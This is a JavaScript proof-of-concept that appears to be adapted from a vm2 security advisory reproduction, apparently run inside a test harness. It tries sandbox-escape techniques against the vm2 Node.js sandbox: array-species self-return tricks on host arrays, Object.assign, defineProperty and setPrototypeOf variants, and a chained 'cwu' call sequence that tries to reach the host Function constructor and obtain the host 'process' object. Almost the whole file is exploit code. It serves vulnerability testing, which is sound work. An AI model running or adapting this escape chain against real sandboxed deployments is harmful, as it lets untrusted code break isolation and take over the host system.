// Source: vm2 test/ghsa/GHSA-grj5-jjm8-h35p/repro.js (fixed in vm2 3.11.0), docs/ATTACKS.md Category 18.
// The original mints host arrays with an embedder function `hostArrayFactory`; in this sandbox
// `new URLSearchParams(...).getAll(...)` and `Buffer.prototype.toJSON().data` return host arrays.
// Tried: the array-species self-return primitive (r.constructor = x, x[Symbol.species] = x, r.map(f)
// writes raw host results into r) on host arrays, directly and through Object.assign /
// defineProperty / setPrototypeOf / preventExtensions, and the canonical `cwu` chain to the host
// Function.
// vm2 3.12 refuses the host `__proto__` getter this walk starts from (GHSA-88hf); so that the rest of
// the PoC still runs, it falls back to Object.getPrototypeOf, answered with vm2's mapped prototypes.
const out = {};
const hostArrays = [() => new URLSearchParams('a=1&a=2').getAll('a'), () => Buffer.from([1, 2]).toJSON().data];
const g = ({}).__lookupGetter__;
const a = Buffer.apply;
let p, ho;
try { p = a.apply(g, [Buffer, ['__proto__']]); if (typeof p !== 'function') { out.getter = typeof p; p = { call: (x) => Object.getPrototypeOf(x) }; } ho = p.call(p.call(p.call(p.call(Buffer.of())))).constructor; } catch (e) { out.walk = String(e.message); }
hostArrays.forEach((make, n) => {
  const tries = {
    direct: (r) => { function x() { return r; } x[Symbol.species] = x; r.constructor = x; return r.map((v) => 'm' + v) === r; },
    assign: (r) => { function x() { return r; } x[Symbol.species] = x; (ho || Object).assign(r, { constructor: x }); return r.map((v) => 'm' + v) === r; },
    define: (r) => { function x() { return r; } x[Symbol.species] = x; (ho || Object).defineProperty(r, 'constructor', { value: x, configurable: false }); return r.map((v) => v) === r; },
    proto: (r) => { function x() { return r; } x[Symbol.species] = x; const fake = (ho || Object).create(Array.prototype); fake.constructor = x; (ho || Object).setPrototypeOf(r, fake); return r.map((v) => v) === r; },
    filterSliceConcat: (r) => { function x() { return r; } x[Symbol.species] = x; r.constructor = x; return r.filter(() => true) === r || r.slice(0) === r || r.concat([2]) === r; },
  };
  for (const [name, run] of Object.entries(tries)) {
    try { const self = run(make()); out[name + n] = self; if (self === true) __wr.flag('species self-return on a host array (' + name + ')'); } catch (e) { out[name + n] = String(e.message).slice(0, 60); }
  }
});
try {
  function cwu(func, thiz, args) {
    const r = hostArrays[0]();
    args.unshift(thiz);
    const f = a.apply(a.bind, [func, args]);
    r[0] = 0;
    function x() { return r; }
    x[Symbol.species] = x;
    r.constructor = x;
    r.map(f);
    r.constructor = undefined;
    return r;
  }
  const fp = cwu(p.call, p, [a]);
  const cd = cwu(ho.getOwnPropertyDescriptors, undefined, fp);
  const xx = cwu(ho.entries, undefined, cd);
  xx[1] = [4];
  const ee = cwu(a, xx.at, xx);
  ee[1] = [1];
  const y = cwu(a, ee.at, ee);
  const ey = cwu(ho.entries, 0, y);
  ey[1] = [0];
  const ea = cwu(a, ee.at, ey);
  ea[1] = [1];
  const e = cwu(a, ee.at, ea);
  e.push([undefined, ['return process']]);
  const leaked = a.apply(a, e);
  __wr.use(leaked, 'cwu chain result');
  out.cwu = typeof leaked;
} catch (e) { out.cwu = String(e.message).slice(0, 100); }
return out;
